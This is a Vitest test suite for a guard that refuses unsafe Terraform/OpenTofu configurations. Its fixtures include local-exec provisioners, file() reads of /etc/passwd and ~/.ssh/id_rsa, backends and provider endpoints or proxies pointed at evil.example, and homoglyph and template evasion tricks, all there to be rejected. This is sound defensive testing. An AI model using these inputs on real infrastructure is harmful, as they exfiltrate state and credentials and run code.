import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { guardSource, type SourceFindings } from '../../../../src/operations/infra-apply/source-guard.js';
import { infraTarget } from './infra-target.js';

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true, force: true });
});

type Files = Readonly<Record<string, string>>;

async function guard(files: Files, change: Parameters<typeof infraTarget>[0] = {}): Promise<SourceFindings> {
  const root = await mkdtemp(join(tmpdir(), 'countersign-guard-'));
  folders.push(root);
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(join(root, name)), { recursive: true });
    await writeFile(join(root, name), text);
  }
  return guardSource(
    { root, folder: files['envs/prod/main.tf'] === undefined ? '.' : 'envs/prod' },
    infraTarget(change),
  );
}

const main = (text: string): Files => ({ 'main.tf': text });
const resource = (text: string): Files => main(`resource "terraform_data" "a" {\n${text}\n}`);
const local = (expression: string): Files => main(`locals {\n  x = ${expression}\n}`);

describe('what would run code or read elsewhere is refused, with file and line', () => {
  it.each<[string, Files, RegExp]>([
    ['local-exec', resource('provisioner "local-exec" {\n command = "id"\n}'), /^main.tf:2: provisioners/],
    ['remote-exec', resource('provisioner "remote-exec" {\n inline = []\n}'), /^main.tf:2: provisioners/],
    ['a provisioner on one line', resource('provisioner "file" { source = "a" }'), /provisioners/],
    [
      'a quoted keyword is none, a label on the next line neither',
      main('resource "terraform_data" "a" {\n provisioner\n "local-exec" {}\n}'),
      /label/,
    ],
    ['a dynamic provisioner', resource('dynamic "provisioner" {\n for_each = [1]\n content {}\n}'), /provisioners/],
    [
      'a provisioner of what is removed',
      main('removed {\n from = terraform_data.a\n provisioner "local-exec" {\n command = "id"\n }\n}'),
      /provisioners/,
    ],
    [
      'a provisioner in a module',
      {
        ...main('module "m" {\n source = "./m"\n}'),
        'm/x.tf': 'resource "terraform_data" "b" {\n provisioner "local-exec" {\n command = "id"\n }\n}',
      },
      /^m\/x.tf:2: provisioners/,
    ],
    [
      'a provisioner in a module of a module',
      {
        ...main('module "m" {\n source = "./m"\n}'),
        'm/x.tf': 'module "n" {\n source = "../n"\n}',
        'n/y.tf': 'resource "terraform_data" "b" {\n provisioner "local-exec" {}\n}',
      },
      /^n\/y.tf:2/,
    ],
    ['a provisioner behind a comment that ends', resource('/* */ provisioner "local-exec" {}'), /provisioners/],
    [
      'a provisioner behind a heredoc',
      resource('input = <<EOT\nx\n  EOT\nprovisioner "local-exec" {}'),
      /provisioners/,
    ],
    [
      'a provisioner in an .tofu file',
      { ...main('locals {}'), 'x.tofu': 'resource "terraform_data" "a" {\n provisioner "local-exec" {}\n}' },
      /^x.tofu:2/,
    ],
    ['data "external"', main('data "external" "x" {\n program = ["id"]\n}'), /^main.tf:1: data "external"/],
    [
      'data "external" in a check',
      main('check "c" {\n data "external" "x" {\n program = ["id"]\n }\n}'),
      /data "external"/,
    ],
    [
      'external under another name',
      main('terraform {\n required_providers {\n e = {\n source = "hashicorp/external"\n }\n }\n}\ndata "e_x" "x" {}'),
      /does not list the provider hashicorp\/external/,
    ],
    [
      "data that reads the machine's files",
      main('data "local_file" "x" {\n filename = "/proc/self/environ"\n}'),
      /^main.tf:1: data "local_file" reads any file/,
    ],
    ['the same, marked as sensitive', main('data "local_sensitive_file" "x" {}'), /reads any file/],
    ['data "http"', main('data "http" "x" {\n url = "https://example.com"\n}'), /does not allow data "http"/],
    ['the state of another', main('data "terraform_remote_state" "x" {\n backend = "local"\n}'), /state of another/],
    [
      'a provider that is not listed',
      main('resource "aws_instance" "x" {}'),
      /does not list the provider hashicorp\/aws/,
    ],
    [
      'a provider of an address that is computed',
      main(
        'terraform {\n required_providers {\n listed = {\n source = "${var.x}"\n }\n }\n}\nresource "listed_x" "x" {}',
      ),
      /literal/,
    ],
    [
      'a provider chosen beside the type',
      main('resource "listed_x" "x" {\n provider = other.west\n}'),
      /hashicorp\/other/,
    ],
    [
      'a provider that is only declared',
      main(
        'terraform {\n required_providers {\n z = {\n source = "evil.example/x/z"\n }\n }\n}\nresource "terraform_data" "a" {}',
      ),
      /evil.example\/x\/z/,
    ],
    [
      'a provider that runs a command',
      main(
        'terraform {\n required_providers {\n listed = { source = "example.com/acme/listed" }\n }\n}\nprovider "listed" {\n kubernetes {\n exec {\n command = "id"\n }\n }\n}',
      ),
      /exec/,
    ],
    [
      'encryption with a program for its key',
      main('terraform {\n encryption {\n key_provider "external" "x" {\n command = ["id"]\n }\n }\n}'),
      /encryption/,
    ],
    ['the cloud', main('terraform {\n cloud {}\n}'), /cloud/],
    [
      'another backend',
      main('terraform {\n backend "http" {\n address = "https://evil.example"\n }\n}'),
      /backend http/,
    ],
    ['experiments', main('terraform {\n experiments = [x]\n}'), /experiments/],
    ['an unknown block', main('run "x" {}'), /not known here/],
    ['an absolute module', main('module "m" {\n source = "/etc/modules"\n}'), /does not list the module/],
    ['a module above', main('module "m" {\n source = "../m"\n}'), /leaves the configuration/],
    ['a module above by a detour', main('module "m" {\n source = "./x/../../m"\n}'), /leaves the configuration/],
    [
      'a module from a registry',
      main('module "m" {\n source = "terraform-aws-modules/vpc/aws"\n}'),
      /does not list the module/,
    ],
    ['a module whose source is computed', main('module "m" {\n source = "${var.x}"\n}'), /literally/],
    ['a module whose source is a variable', main('module "m" {\n source = var.x\n}'), /literally/],
    ['a module that is not there', main('module "m" {\n source = "./m"\n}'), /no such folder/],
    ['file() of an absolute path', local('file("/etc/passwd")'), /file\(\) must name a file/],
    ['file() above', local('file("../x")'), /file\(\) must name/],
    ['file() above the module', local('file("${path.module}/../../x")'), /file\(\) must name/],
    ['file() at home', local('file("~/.ssh/id_rsa")'), /file\(\) must name/],
    ['file() of a variable', local('file(var.path)'), /file\(\) must name/],
    ['file() of a computed path', local('file("${path.module}/${var.x}")'), /file\(\) must name/],
    ['file() of an escaped path', local('file("\\u002fetc/passwd")'), /file\(\) must name/],
    ['file() under its long name', local('core::file("/etc/passwd")'), /file\(\) must name/],
    ['file() over lines', local('(\n file\n (\n "/etc/passwd"))'), /file\(\) must name/],
    ['file() inside a string', local('"${file("/etc/passwd")}"'), /file\(\) must name/],
    ['file() inside a heredoc', local('<<EOT\n${file("/etc/passwd")}\nEOT'), /file\(\) must name/],
    [
      'file() inside a template directive',
      local('"%{ if file("/etc/passwd") == "" }x%{ endif }"'),
      /file\(\) must name/,
    ],
    [
      'file() in a nested block',
      resource('lifecycle {\n precondition {\n condition = file("/etc/passwd") != ""\n error_message = "x"\n }\n}'),
      /file\(\) must name/,
    ],
    ['a path that looks local but is not', local('file("${path.module}x/../../y")'), /file\(\) must name/],
    ['fileset() with a pattern above', local('fileset(path.module, "../**")'), /fileset\(\) must/],
    [
      'fileset() with a pattern above, literal folder',
      local('fileset("${path.module}", "../**")'),
      /fileset\(\) must have a literal pattern/,
    ],
    [
      'file() above the root from a module',
      { ...main('module "m" {\n source = "./m"\n}'), 'm/x.tf': 'locals {\n x = file("${path.root}/../x")\n}' },
      /file\(\) must name/,
    ],
    [
      'templatefile() that reads on',
      { ...local('templatefile("${path.module}/t.tpl", {})'), 't.tpl': '${file("/etc/passwd")}' },
      /t.tpl calls file\(\)/,
    ],
    ['templatefile() of what is not there', local('templatefile("t.tpl", {})'), /not in the configuration/],
    ['templatestring()', local('templatestring(var.t, {})'), /templatestring/],
    ['plantimestamp()', local('plantimestamp()'), /no two plans/],
    ['JSON', { ...main('locals {}'), 'x.tf.json': '{}' }, /x.tf.json: configuration in JSON/],
    ['an override file', { ...main('locals {}'), 'x_override.tf': '' }, /override/],
    ['a state file', { ...main('locals {}'), 'terraform.tfstate': '{}' }, /state file/],
    ['no configuration at all', { 'readme.md': 'x' }, /no .tf files/],
  ])('%s', async (_, files, message) => {
    const error = await guard(files).then(
      () => null,
      (thrown: unknown) => thrown,
    );
    expect(error).toMatchObject({ code: 'source_forbidden', field: 'params.source' });
    expect((error as Error).message).toMatch(message);
  });
});

describe('what is leased for providers goes nowhere else', () => {
  const providers = ['hashicorp/aws', 'hashicorp/awscc', 'example.com/acme/postgresql', 'example.com/acme/listed'].map(
    (source) => ({ source, version: '1.2.3', hashes: [`zh:${'a'.repeat(64)}`] }),
  );
  const leased: NonNullable<Parameters<typeof infraTarget>[0]>['providerCredentials'] = {
    aws: {
      mount: 'aws',
      rolePrefix: 'network',
      previewRoleArn: 'arn:aws:iam::123456789012:role/plan',
      executeRoleArn: 'arn:aws:iam::123456789012:role/apply',
    },
    postgres: {
      ...{ host: '127.0.0.1', port: 5432, database: 'inventory', tls: 'disable', mount: 'database' },
      ...{ previewRole: 'inventory-preview', executeRole: 'inventory-execute', witnessRole: 'inventory-witness' },
    },
  };
  const provider = (name: string, settings: string): Files =>
    main(
      `terraform {\n required_providers {\n db = { source = "example.com/acme/postgresql" }\n listed = { source = "example.com/acme/listed" }\n }\n}\nprovider "${name}" {\n${settings}\n}`,
    );

  it.each<[string, Files, RegExp]>([
    ['to another server', provider('db', 'host = "evil.example"'), /^main.tf:7: "host" in the settings of postgresql/],
    ['to one that a variable names', provider('db', 'host = var.host'), /"host"/],
    ['without a certificate', provider('db', 'sslmode = "disable"'), /"sslmode"/],
    ['for another user', provider('db', 'username = "admin"'), /"username"/],
    ['by an alias', provider('db', 'alias = "x"\nport = 1'), /"port"/],
    ['to other servers of AWS', provider('aws', 'endpoints {\n sts = "http://evil.example"\n}'), /"endpoints"/],
    ['the same, dynamically', provider('aws', 'dynamic "endpoints" {\n for_each = [1]\n content {}\n}'), /"endpoints"/],
    ['through a proxy', provider('aws', 'http_proxy = "http://evil.example"'), /"http_proxy"/],
    [
      'for a session that outlives the lease',
      provider('awscc', 'assume_role = {\n role_arn = "x"\n}'),
      /"assume_role"/,
    ],
    [
      'from a module',
      { ...main('module "m" {\n source = "./m"\n}'), 'm/x.tf': 'provider "aws" {\n token = "x"\n}' },
      /^m\/x.tf:1: "token"/,
    ],
  ])('%s', async (_, files, message) => {
    const asked = guard(files, { providers, providerCredentials: leased });
    await expect(asked).rejects.toMatchObject({ code: 'source_forbidden' });
    await expect(asked).rejects.toThrow(message);
  });

  it.each([
    ['what says neither where nor as whom', provider('db', 'alias = "b"\ndatabase = "x"\nsuperuser = false'), leased],
    ['a region, and tags', provider('aws', 'region = "eu-central-1"\ndefault_tags {\n tags = {}\n}'), leased],
    ['another provider', provider('listed', 'host = "grafana.example"'), leased],
    ['where nothing is leased', provider('db', 'host = "db.example"'), undefined],
  ])('but %s passes', async (_, files, providerCredentials) => {
    const change = { providers, ...(providerCredentials === undefined ? {} : { providerCredentials }) };
    await expect(guard(files, change)).resolves.toBeDefined();
  });
});

describe('what two readers could see differently is refused', () => {
  it.each([
    ['a string over lines', 'locals {\n x = "a\nb"\n}'],
    ['an unknown escape', 'locals {\n x = "\\d"\n}'],
    ['a heredoc whose end has a space', 'locals {\n x = <<EOT\na\nEOT \n}\n'],
    ['a heredoc that does not end', 'locals {\n x = <<EOT\na\n}\n'],
    ['a template that goes beyond its heredoc', 'locals {\n x = <<EOT\n${"\nEOT\n"}\nEOT\n}\n'],
    ['a row of template signs', 'locals {\n x = "$$${file("/etc/passwd")}"\n}'],
    ['signs of two kinds', 'locals {\n x = "%${file("/etc/passwd")}"\n}'],
    ['a lone carriage return', 'locals {\n # x\rprovisioner\n}'],
    ['a character that means nothing', 'locals {\n x = `a`\n}'],
    ['letters that look like others', 'resource "terraform_data" "a" {\n рrovisioner "local-exec" {}\n}'],
    ['brackets that do not match', 'locals {\n x = [1)\n}'],
    ['an open block', 'locals {'],
    ['a block too many', 'locals {}\n}'],
    ['a comment without an end', '/* locals {}'],
    ['a value without an end', 'locals {\n x =\n}'],
    ['an attribute outside of a block', 'x = 1'],
    ['deep nesting', `locals {\n x = ${'"${'.repeat(80)}1${'}"'.repeat(80)}\n}`],
  ])('%s', async (_, text) => {
    await expect(guard(main(text))).rejects.toMatchObject({ code: 'source_forbidden' });
  });
});

describe('ordinary configurations pass', () => {
  const ordinary = `
# file("/etc/passwd") in a comment
terraform {
  required_version = ">= 1.6" // provisioner
  backend "pg" {}
  required_providers {
    listed = { source = "example.com/acme/listed", version = "1.2.3" }
  }
}
/* provisioner "local-exec" {} */
variable "region" {
  type    = string
  default = "eu"
}
provider "listed" { region = var.region }
locals {
  text   = "provisioner \\"local-exec\\" \${upper("a}b")} $\${literal} 100% $5"
  policy = file("\${path.module}/files/policy.json")
  all    = fileset("\${path.module}/files", "*.json")
  own    = fileset(path.module, "files/*.json")
  shared = file("\${path.module}/../../modules/network/main.tf")
  shown  = templatefile("files/t.tpl", { a = 1 })
  here   = <<-EOT
    provisioner "local-exec" { \${var.region}
    %{ for x in ["a"] ~}
    \${x}
    %{ endfor ~}
    EOT
  many = { for key, value in { a = 1 } : key => value if value > 0 }
  cond = var.region == "eu" ? [1, 2] : [
    3,
  ]
}
resource "listed_thing" "x" {
  for_each = toset(["a", "b"])
  name     = each.key
  dynamic "rule" {
    for_each = [1]
    content { port = rule.value }
  }
  lifecycle { prevent_destroy = true }
}
module "network" { source = "../../modules/network" }
output "o" { value = try(listed_thing.x["a"].id, null) }
`;

  it('with modules of their own, heredocs, templates and comments', async () => {
    const found = await guard({
      'envs/prod/main.tf': ordinary.replaceAll('\n', '\r\n'),
      'envs/prod/files/policy.json': '{}',
      'envs/prod/files/t.tpl': 'Hello ${a}',
      'modules/network/main.tf': 'resource "terraform_data" "n" {}',
    });
    expect(found).toEqual({ unpinnedModules: [], unpinnedProviders: [], variables: ['region'] });
  });

  it.each([
    ['bound to a commit', `git::https://git.example.com/vpc.git?ref=${'a'.repeat(40)}`, []],
    ['bound to a tag', 'git::https://git.example.com/vpc.git?ref=v1', ['git::https://git.example.com/vpc.git?ref=v1']],
  ])('a listed module %s', async (_, source, unpinned) => {
    const found = await guard(main(`module "m" {\n source = "${source}"\n}`), { modules: [source] });
    expect(found.unpinnedModules).toEqual(unpinned);
  });

  it('a listed provider without a version is told', async () => {
    const text =
      'terraform {\n required_providers {\n listed = {\n source = "example.com/acme/listed"\n }\n }\n}\nresource "listed_x" "x" {}';
    expect((await guard(main(text))).unpinnedProviders).toEqual(['example.com/acme/listed']);
  });

  it('data "http" where the target allows it', async () => {
    const providers = [
      { source: 'registry.opentofu.org/hashicorp/http', version: '3.4.5', hashes: [`zh:${'a'.repeat(64)}`] },
    ];
    await expect(guard(main('data "http" "x" {}'), { allowHttpData: true, providers })).resolves.toBeDefined();
  });
});
